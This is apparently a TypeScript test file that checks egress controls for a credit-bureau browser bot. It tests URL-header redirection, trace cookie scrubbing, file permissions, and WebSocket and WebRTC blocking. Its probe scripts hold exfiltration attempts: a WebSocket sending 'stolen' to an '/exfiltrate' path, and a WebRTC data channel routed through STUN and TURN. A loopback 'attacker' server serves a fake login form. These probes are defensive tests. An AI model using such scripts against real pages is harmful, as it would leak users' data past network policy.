/**
 * Given the shipped credit-bureau bot in a bot node created without `baseUrl` (the library default)
 * and pages that try to leave the egress policy, in real Chromium against the demo apps and local
 * servers on 127.0.0.1: a `url` task header neither moves the bot (its credentials stay with the
 * bureau) nor deploys; a kept trace holds no session cookie; artifacts are private to the service
 * user; and a WebSocket or a WebRTC connection (STUN over UDP, TURN over TCP) to a host outside the
 * policy never reaches it.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { mkdtempSync, statSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { createServer as createTcpServer, type AddressInfo, type Server as TcpServer } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { randomUUID } from 'node:crypto';
import { chromium } from 'playwright-core';
import { z } from 'zod';
import { createBotNode, createSecretStore, defineBot } from '../../nodes/bot/index.ts';
import { discoverChromium } from '../../nodes/bot/browser.ts';
import { scrubTrace } from '../../nodes/bot/trace-scrub.ts';
import { creditBureauBot } from '../../processes/bots/index.ts';
import { appUrl, signIn } from '../../processes/bots/sign-in.ts';
import { demoSecretDefaults, startDemoApps, type DemoApps } from '../../processes/demo-apps/index.ts';
import { createEngine } from '../../engine/engine.ts';
import { createNodeRegistry } from '../../nodes/index.ts';
import type { OperonError } from '../../engine/errors.ts';
import type { NodeContext } from '../../engine/nodes/types.ts';
import { createTestDatabase, type TestDatabase } from '../support/db.ts';
import { directRecord, recordsWritten } from '../support/node-context.ts';

/** Cookies the session bot saw, to look for in its trace. */
const sessionCookies: string[] = [];

/** Signs in at the credit bureau (a session cookie), then fails on a page: the trace is kept. */
const sessionBot = defineBot({
  name: 'bureau-session',
  input: z.object({}),
  output: z.object({}),
  secrets: ['CREDIT_BUREAU_USER', 'CREDIT_BUREAU_PASSWORD'],
  async run({ page, secrets, baseUrl }) {
    const app = appUrl(baseUrl, '/credit-bureau');
    await signIn(page, secrets, app, 'CREDIT_BUREAU');
    sessionCookies.push(...(await page.context().cookies()).map((cookie) => cookie.value));
    await page.goto(`${app}/search?q=Maria`);
    await page.goto(`${app}/applicants/AP-10001?broken=1`);
    await page.locator('[data-field=nothing-here]').waitFor({ timeout: 500 });
    return {};
  },
});

/** Opens the demo apps' page, then runs the page script `probe` and returns what it reported. */
const probeBot = defineBot({
  name: 'page-probe',
  input: z.object({ probe: z.string() }),
  output: z.object({ report: z.string() }),
  async run({ page, input, baseUrl }) {
    await page.goto(appUrl(baseUrl, '/credit-bureau/login'));
    return { report: String(await page.evaluate(`(async () => { ${input.probe} })()`)) };
  },
});

let db: TestDatabase;
let apps: DemoApps;
let attacker: Server;
let attackerOrigin = '';
const attackerHits: string[] = [];
/** Loopback servers outside the policy: each counts what reached it. */
let wsServer: Server;
let wsPort = 0;
let wsUpgrades = 0;
let stun: UdpSocket;
let stunPackets = 0;
let turn: TcpServer;
let turnConnections = 0;
const artifactsDir = mkdtempSync(join(tmpdir(), 'operon-bot-egress-'));
let node: ReturnType<typeof createBotNode>;
const savedDemoUrl = process.env.DEMO_APPS_URL;

function context(bot: string, headers: Record<string, string> = {}): NodeContext {
  const logger = { debug() {}, info() {}, warn() {}, error() {}, child: () => logger };
  return {
    signal: new AbortController().signal,
    logger,
    instanceId: randomUUID(),
    elementId: `Task_${bot}`,
    elementInstanceId: randomUUID(),
    jobId: randomUUID(),
    attempt: 1,
    taskType: `bot:${bot}`,
    headers,
    secrets: { get: () => undefined, values: () => [] },
    record: directRecord(
      () => db.knex,
      () => node,
    ),
  };
}

before(async () => {
  [db, apps] = await Promise.all([createTestDatabase(), startDemoApps({ port: 0 })]);
  attacker = createServer((request, response) => {
    attackerHits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end(
      '<form method=post><input id=username><input id=password type=password><button type=submit>Sign in</button></form>',
    );
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  wsServer = createServer((_request, response) => response.end());
  wsServer.on('upgrade', (_request, socket) => {
    wsUpgrades += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => wsServer.listen(0, '127.0.0.1', resolve));
  wsPort = (wsServer.address() as AddressInfo).port;
  stun = createSocket('udp4');
  stun.on('message', () => (stunPackets += 1));
  await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
  turn = createTcpServer((socket) => {
    turnConnections += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => turn.listen(0, '127.0.0.1', resolve));
  // The library default: no baseUrl; the bots find the demo apps through their `url.env` variable.
  process.env.DEMO_APPS_URL = apps.baseUrl;
  node = createBotNode({
    bots: [creditBureauBot, sessionBot, probeBot],
    secrets: createSecretStore({ env: {}, defaults: demoSecretDefaults }),
    artifactsDir,
    concurrency: 1,
    actionTimeoutMs: 5_000,
  });
});

after(async () => {
  if (savedDemoUrl === undefined) delete process.env.DEMO_APPS_URL;
  else process.env.DEMO_APPS_URL = savedDemoUrl;
  await node?.close?.();
  await apps?.close();
  for (const server of [attacker, wsServer, turn]) server?.close();
  stun?.close();
  await db?.drop();
});

describe('where a bot goes is decided by code, not by the BPMN', () => {
  test("a url task header does not move the credit-bureau bot: it reads the real bureau, the caller's page sees nothing", {
    timeout: 120_000,
  }, async () => {
    const result = await node.run(
      { applicantName: 'Maria Schneider' },
      context('credit-bureau', { url: attackerOrigin }),
    );
    assert.equal(result?.creditScore, 782);
    assert.deepEqual(attackerHits, [], "no request reached the caller's server");
  });

  test('a bot task with a url header is refused at deployment, naming the element', async () => {
    const engine = createEngine({ db: db.knex, nodes: await createNodeRegistry({ extra: [node] }) });
    const xml = `<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:zeebe="http://camunda.org/schema/zeebe/1.0" id="d" targetNamespace="http://operon.test">
  <bpmn:process id="moved-bureau" isExecutable="true">
    <bpmn:startEvent id="start"><bpmn:outgoing>f1</bpmn:outgoing></bpmn:startEvent>
    <bpmn:serviceTask id="CheckCredit"><bpmn:extensionElements><zeebe:taskDefinition type="bot:credit-bureau" />
      <zeebe:taskHeaders><zeebe:header key="url" value="${attackerOrigin}" /></zeebe:taskHeaders></bpmn:extensionElements>
      <bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f2</bpmn:outgoing></bpmn:serviceTask>
    <bpmn:endEvent id="end"><bpmn:incoming>f2</bpmn:incoming></bpmn:endEvent>
    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="CheckCredit" />
    <bpmn:sequenceFlow id="f2" sourceRef="CheckCredit" targetRef="end" />
  </bpmn:process>
</bpmn:definitions>`;
    try {
      await assert.rejects(engine.deploy([{ name: 'moved.bpmn', xml }]), (error: OperonError) => {
        assert.equal(error.code, 'OPERON_ERR_BPMN_INVALID');
        assert.match(error.message, /CheckCredit.*'url' task header/);
        return true;
      });
    } finally {
      await engine.close();
    }
  });
});

describe('artifacts keep no session and are private', () => {
  test('a failed run after sign-in keeps a trace without the session cookie, in files only the service user reads', {
    timeout: 120_000,
  }, async () => {
    const ctx = context('bureau-session');
    const error = await node.run({}, ctx).then(
      () => assert.fail('the run should fail'),
      (e: Error) => e,
    );
    assert.match(error.message, /trace: /);
    await recordsWritten();
    const row = await db.knex('bot_runs').where({ job_id: ctx.jobId }).first();
    assert.ok(row.trace_path && row.screenshot_path, 'trace and screenshot kept');
    assert.ok(sessionCookies.length > 0 && sessionCookies.every((value) => value.length >= 8), 'the bot had a session');
    const trace = execFileSync('unzip', ['-p', row.trace_path], { maxBuffer: 256 * 1024 * 1024 }).toString('latin1');
    assert.match(trace, /applicants\/AP-10001/, 'the trace recorded the signed-in pages');
    for (const value of sessionCookies) assert.ok(!trace.includes(value), 'the session cookie is not in the trace');
    assert.doesNotMatch(trace, /"name":"Cookie"/i);
    for (const file of [row.trace_path, row.screenshot_path]) assert.equal(statSync(file).mode & 0o777, 0o600, file);
    assert.equal(statSync(dirname(row.trace_path)).mode & 0o777, 0o700);
  });

  test('scrubbing removes Cookie, Set-Cookie and cookie lists that a raw Playwright trace holds', {
    timeout: 60_000,
  }, async () => {
    const value = `sess-${randomUUID()}`;
    const site = createServer((request, response) => {
      response.writeHead(200, { 'content-type': 'text/html', 'set-cookie': `session=${value}; HttpOnly; Path=/` });
      response.end(`<p>${request.url}</p>`);
    });
    await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
    const browser = await chromium.launch({ executablePath: discoverChromium(), args: ['--no-sandbox'] });
    try {
      const browserContext = await browser.newContext();
      await browserContext.tracing.start({ snapshots: true });
      const page = await browserContext.newPage();
      const origin = `http://127.0.0.1:${(site.address() as AddressInfo).port}`;
      await page.goto(`${origin}/first`);
      await page.goto(`${origin}/second`);
      const path = join(artifactsDir, `raw-${randomUUID()}.zip`);
      await browserContext.tracing.stop({ path });
      const unzip = () => execFileSync('unzip', ['-p', path]).toString('latin1');
      assert.ok(unzip().includes(value), 'a raw trace holds the cookie');
      await scrubTrace(path);
      assert.ok(!unzip().includes(value), 'the scrubbed trace does not');
      assert.match(unzip(), /\/second/, 'the rest of the trace is kept');
      assert.equal(statSync(path).mode & 0o777, 0o600);
    } finally {
      await browser.close();
      site.close();
    }
  });
});

describe('pages cannot leave the policy through WebSockets or WebRTC', () => {
  test('a WebSocket to a loopback port outside the allowed hosts never reaches it and is reported', {
    timeout: 120_000,
  }, async () => {
    const ctx = context('page-probe');
    const probe = `return await new Promise((resolve) => {
      const socket = new WebSocket('ws://127.0.0.1:${wsPort}/exfiltrate');
      socket.onopen = () => socket.send('stolen');
      socket.onclose = (event) => resolve('closed ' + event.code);
      setTimeout(() => resolve('timeout ' + socket.readyState), 4000);
    });`;
    const { report } = (await node.run({ probe }, ctx)) as { report: string };
    assert.doesNotMatch(report, /timeout/);
    assert.equal(wsUpgrades, 0, 'the WebSocket server was never reached');
    await recordsWritten();
    const row = await db.knex('bot_runs').where({ job_id: ctx.jobId }).first();
    const blocked = row.blocked_requests as { url: string; reason: string }[];
    assert.ok(
      blocked.some((b) => b.url.startsWith(`ws://127.0.0.1:${wsPort}/`) && /not an allowed host/.test(b.reason)),
      JSON.stringify(blocked),
    );
  });

  test('WebRTC is gone from pages and frames; neither STUN over UDP nor TURN over TCP leaves the browser', {
    timeout: 120_000,
  }, async () => {
    const stunPort = stun.address().port;
    const turnPort = (turn.address() as AddressInfo).port;
    const probe = `const frame = document.createElement('iframe');
      document.body.appendChild(frame);
      const Peer = window.RTCPeerConnection || window.webkitRTCPeerConnection || frame.contentWindow.RTCPeerConnection;
      if (!Peer) return 'no RTCPeerConnection';
      const peer = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:${stunPort}' }, { urls: 'turn:127.0.0.1:${turnPort}?transport=tcp', username: 'u', credential: 'p' }] });
      peer.createDataChannel('exfiltrate');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 3000));
      return 'gathered ' + peer.iceGatheringState;`;
    const { report } = (await node.run({ probe }, context('page-probe'))) as { report: string };
    assert.equal(report, 'no RTCPeerConnection');
    assert.equal(stunPackets, 0);
    assert.equal(turnConnections, 0);
  });
});
